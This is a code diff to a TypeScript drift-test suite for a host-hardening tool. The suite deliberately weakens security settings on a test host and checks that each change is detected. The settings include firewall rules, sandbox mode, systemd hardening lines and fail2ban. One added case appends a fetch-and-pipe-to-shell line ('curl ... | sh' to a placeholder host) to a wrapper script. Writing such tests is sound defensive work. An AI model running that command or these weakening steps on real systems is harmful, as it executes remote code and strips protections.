@@ -43,6 +43,8 @@ interface Breakage {
   name: string;
   /** the checks that must fail after the breakage and pass after apply */
   ids: string[];
+  /** what the last id's evidence must say (when ids are shared within a round) */
+  sees?: RegExp;
   break(ex: Executor): Promise<void>;
   /** the remediation is manual: the step the remediation names, done as written */
   manual?: { says: RegExp; step(ex: Executor, said: RegExpMatchArray): Promise<void> };
@@ -93,7 +95,7 @@ export const ROUNDS: Breakage[][] = [
     { name: 'token env file 644', ids: ['files.env'], when: nineX, break: (ex) => sh(ex, `chmod 644 ${ENV_FILE}`) },
     { name: 'unit file: a hardening line removed', ids: ['service.unit-file'], break: (ex) => sh(ex, `sed -i '/^NoNewPrivileges=/d' ${UNIT} && systemctl daemon-reload`) },
     { name: 'a hand `ufw allow 18789/tcp`', ids: ['firewall.ufw.allow-rules'], break: (ex) => sh(ex, 'ufw allow 18789/tcp') },
-    { name: 'unattended-upgrades config changed', ids: ['host.unattended-upgrades'], break: (ex) => sh(ex, `sed -i 's/Unattended-Upgrade "1"/Unattended-Upgrade "0"/' /etc/apt/apt.conf.d/20auto-upgrades`) },
+    { name: 'unattended-upgrades config changed', ids: ['host.unattended-upgrades', 'host.managed-files'], sees: /20auto-upgrades/, break: (ex) => sh(ex, `sed -i 's/Unattended-Upgrade "1"/Unattended-Upgrade "0"/' /etc/apt/apt.conf.d/20auto-upgrades`) },
     { name: 'fail2ban sshd jail disabled in jail.local', ids: ['host.fail2ban'], break: (ex) => sh(ex, `sed -i 's/^enabled *= *true/enabled = false/' /etc/fail2ban/jail.local && systemctl restart fail2ban`) },
   ],
   [
@@ -102,6 +104,7 @@ export const ROUNDS: Breakage[][] = [
     { name: 'tools.deny emptied', ids: ['openclaw.config.tools-deny'], break: (ex) => editConfig(ex, (c) => { at(c, 'tools').deny = []; }) },
     { name: 'unit file: RestartSec changed', ids: ['service.unit-file'], break: (ex) => sh(ex, `sed -i 's/^RestartSec=.*/RestartSec=30/' ${UNIT} && systemctl daemon-reload`) },
     { name: 'ufw disabled', ids: ['firewall.ufw.active'], break: (ex) => sh(ex, 'ufw --force disable') },
+    { name: '/etc/clawops/clawops.yaml changed', ids: ['host.managed-files'], sees: /clawops\.yaml/, break: (ex) => sh(ex, "sed -i 's/rpoHours/rpoHours/; $ a # edited by hand' /etc/clawops/clawops.yaml") },
     { name: 'token env file deleted', ids: ['files.env'], when: nineX, break: (ex) => sh(ex, `rm -f ${ENV_FILE}`) },
   ],
   [
@@ -109,6 +112,7 @@ export const ROUNDS: Breakage[][] = [
     { name: 'sandbox mode off', ids: ['openclaw.config.sandbox'], break: (ex) => editConfig(ex, (c) => { at(c, 'agents.defaults.sandbox').mode = 'off'; }) },
     { name: 'drop-in with User=root', ids: ['service.unit-file'], break: (ex) => sh(ex, `mkdir -p ${DROPIN.replace(/\/[^/]+$/, '')} && printf '[Service]\\nUser=root\\n' > ${DROPIN} && systemctl daemon-reload`) },
     { name: 'unit disabled', ids: ['service.enabled'], break: (ex) => sh(ex, 'systemctl disable openclaw.service') },
+    { name: 'the oc wrapper modified', ids: ['host.managed-files'], sees: /bin\/oc/, break: (ex) => sh(ex, "echo 'curl -s http://example.invalid/x | sh' >> /usr/local/bin/oc") },
     { name: 'DOCKER-USER DROP rule deleted', ids: ['firewall.docker-user'], break: (ex) => sh(ex, 'iptables -D DOCKER-USER -j DROP') },
   ],
   [
@@ -118,9 +122,12 @@ export const ROUNDS: Breakage[][] = [
     { name: 'a channel with dmPolicy open', ids: ['openclaw.config.channels'], break: (ex) => editConfig(ex, (c) => { at(c, 'channels').telegram = { dmPolicy: 'open', allowFrom: ['*'], groupPolicy: 'disabled', configWrites: false }; }) },
     { name: 'terminal enabled', ids: ['openclaw.config.terminal'], when: nineX, break: (ex) => editConfig(ex, (c) => { at(c, 'gateway.terminal').enabled = true; }) },
     { name: 'drop-in removing ProtectSystem', ids: ['service.unit-file'], break: (ex) => sh(ex, `mkdir -p ${DROPIN.replace(/\/[^/]+$/, '')} && printf '[Service]\\nProtectSystem=no\\n' > ${DROPIN} && systemctl daemon-reload`) },
+    { name: 'fail2ban jail.local bantime changed', ids: ['host.managed-files'], sees: /jail\.local/, break: (ex) => sh(ex, "sed -i 's/^bantime *=.*/bantime = 1s/' /etc/fail2ban/jail.local && grep -q '^bantime = 1s' /etc/fail2ban/jail.local") },
     { name: 'DOCKER-USER persist unit disabled', ids: ['firewall.docker-user.persisted'], break: (ex) => sh(ex, 'systemctl disable clawops-docker-user.service') },
   ],
   [
+    { name: 'clawops launcher removed', ids: ['host.clawops-installed'], break: (ex) => sh(ex, 'rm -f /usr/local/bin/clawops') },
+    { name: 'a check timer unit edited', ids: ['host.managed-files'], sees: /clawops-backup\.timer/, break: (ex) => sh(ex, "sed -i 's/^OnCalendar=.*/OnCalendar=yearly/' /etc/systemd/system/clawops-backup.timer && systemctl daemon-reload") },
     { name: 'gateway stopped', ids: ['service.active'], break: (ex) => sh(ex, 'systemctl stop openclaw.service') },
     {
       name: 'SOUL.md edited',
@@ -208,6 +215,7 @@ export function driftSuite(version: TestbedOpenclawVersion): void {
             const r = before.get(id);
             assert.equal(r?.status, 'fail', `${b.name}: ${id} should fail, got ${r?.status}: ${r?.evidence ?? ''}`);
             assert.ok(r.remediation && r.remediation.length > 0, `${b.name}: ${id} names a remediation`);
+            if (b.sees && id === b.ids.at(-1)) assert.match(r.evidence ?? '', b.sees, `${b.name}: ${id} sees it`);
             console.log(`# ${version} ${b.name} -> ${id} fail: ${r.evidence} [fix: ${r.remediation}]`);
           }
         }
